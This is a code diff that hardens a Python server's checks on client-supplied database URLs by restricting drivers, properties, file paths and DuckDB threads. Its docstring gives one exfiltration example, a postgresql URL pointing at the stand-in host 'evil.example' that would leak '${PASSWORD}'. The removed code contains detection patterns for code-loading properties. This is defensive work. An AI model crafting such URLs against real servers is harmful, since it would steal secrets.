@@ -1,10 +1,11 @@
 """Databases that clients ask to be opened, by URLs of their own.
 
 Whoever registers one has this server reach a file or a host, as this server's user. So their URLs
-are bounded: to drivers that load nothing a URL names (``--register``), with ``--allowed-paths`` to
-files in these folders, and never to this server's own secrets. A reference is read only if its name
-is allowed (``--allowed-reference``): ``postgresql://u:x@evil.example/${PASSWORD}`` would tell it.
-Nor is libpq let near the passwords that it finds by itself.
+are bounded: to drivers that load nothing a URL names (``--register``), to the properties that
+``sansio/permitted.py`` has, with ``--allowed-paths`` to files in these folders, and never to this
+server's own secrets. A reference is read only if its name is allowed (``--allowed-reference``):
+``postgresql://u:x@evil.example/${PASSWORD}`` would tell it. Nor is libpq let near the passwords
+that it finds by itself.
 
 What was kept was judged when it was registered, or written by this user's hand: it may refer to
 whatever it likes, and is bounded like the rest.
@@ -23,7 +24,7 @@ from typing import TYPE_CHECKING, Final
 from notebook_rpc import references
 from notebook_rpc.errors import Forbidden, InvalidParams, NotKept
 from notebook_rpc.persisted import Persisted
-from notebook_rpc.sansio import urls
+from notebook_rpc.sansio import permitted, urls
 from notebook_rpc.sansio.addresses import address
 from notebook_rpc.services.contexts import Contexts, Prepared
 from notebook_rpc.settings import ConfigError
@@ -39,19 +40,15 @@ if TYPE_CHECKING:
 
 logger = logging.getLogger(__name__)
 
-DRIVERS: Final = ("duckdb", "sqlite", "postgres", "odbc")
-"""Not "dbapi", which imports the module that a URL names."""
+DRIVERS: Final = ("duckdb", "sqlite", "postgres")
+"""Not "dbapi", which imports the module that a URL names, nor "odbc", whose drivers are libraries
+of others that do as their keywords say."""
 
-# What would load code that lies in a file, and where a client can have put it.
-_LOADS: Final = {
-    "duckdb": re.compile(r"allow_unsigned_extensions", re.IGNORECASE),
-    "odbc": re.compile(r"filedsn|savefile", re.IGNORECASE),
-}
-_ODBC_LIBRARY: Final = re.compile(
-    r"\s*driver\s*=\s*[^;]*[/\\]|(filedsn|savefile)\s*=", re.IGNORECASE
-)
 # In the place of what libpq would look for: PGPASSWORD, ~/.pgpass, a password of a service.
 _WITHOUT_OWN: Final = {"postgres": {"password": "", "passfile": os.devnull}}
+# DuckDB's own, one for each core and eight for files far away, are much for each of many.
+_THREADS: Final = {"threads": "2", "async_threads": "1"}
+_MEMORY: Final = ":memory:"
 
 
 def prepare(settings: Settings, url: str, *, was_kept: bool = False) -> Prepared:
@@ -68,12 +65,14 @@ def prepare(settings: Settings, url: str, *, was_kept: bool = False) -> Prepared
     if engine not in (settings.register or DRIVERS):
         names = ", ".join(filter(None, settings.register or DRIVERS)) or "none"
         raise Forbidden(f"clients may register databases of these drivers: {names}; see --register")
-    _refuse_code(engine, properties)
+    permitted.check(engine, urls.without_references(properties))
     if not was_kept:
         _refuse_references(settings, properties)
     if settings.allowed_paths:
         _refuse_other_files(settings, properties)
     more = _WITHOUT_OWN.get(engine, {})
+    if engine == "duckdb" and not _is_our_own(settings, properties):
+        more = _THREADS
     own = {key: value for key, value in more.items() if key not in properties}
     try:
         opener = references.opener(settings, url, own)
@@ -133,16 +132,16 @@ def _address(url: str) -> Address:
     return address(url.partition(":")[0], urls.read(url)[1])
 
 
-def _refuse_code(engine: str, properties: Mapping[str, str]) -> None:
-    pattern = _LOADS.get(engine)
-    for name, value in properties.items():
-        if pattern is not None and pattern.fullmatch(name.strip()):
-            raise Forbidden(f"property {name}: not in a URL of a client")
-        if engine != "odbc":
-            continue
-        whole = value if name == "odbc_connect" else f"{name}={value}"
-        if any(map(_ODBC_LIBRARY.match, whole.split(";"))):
-            raise Forbidden("an ODBC driver must be given by its name, not as a file")
+def _is_our_own(settings: Settings, properties: Mapping[str, str]) -> bool:
+    """Whether it is a file that this server has been started with. DuckDB opens it again only as
+    it was opened before."""
+    file = Path(properties.get("database") or _MEMORY)
+    others = [each.database for each in references.addresses(settings).values()]
+    try:
+        ours = {Path(other).resolve() for other in others if other and other != _MEMORY}
+        return file.resolve() in ours
+    except (OSError, RuntimeError, ValueError):
+        return False  # what is wrong with its name, the driver says
 
 
 def _refuse_references(settings: Settings, properties: Mapping[str, str]) -> None:
@@ -156,8 +155,8 @@ def _refuse_other_files(settings: Settings, properties: Mapping[str, str]) -> No
     """Besides what the driver bounds: that a file is reached by being the database itself."""
     if set(properties) - {"database"}:
         raise Forbidden("with --allowed-paths, a URL of a client has nothing but a file's name")
-    file = properties.get("database") or ":memory:"
-    if file.startswith(":memory:"):
+    file = properties.get("database") or _MEMORY
+    if file == _MEMORY:  # to SQLite, ":memory:/../x" is a file
         return
     if re.match(r"[A-Za-z][\w.+-]+:", file):  # of another kind of file system, or a server
         raise Forbidden("with --allowed-paths, the database of a client must be a file")
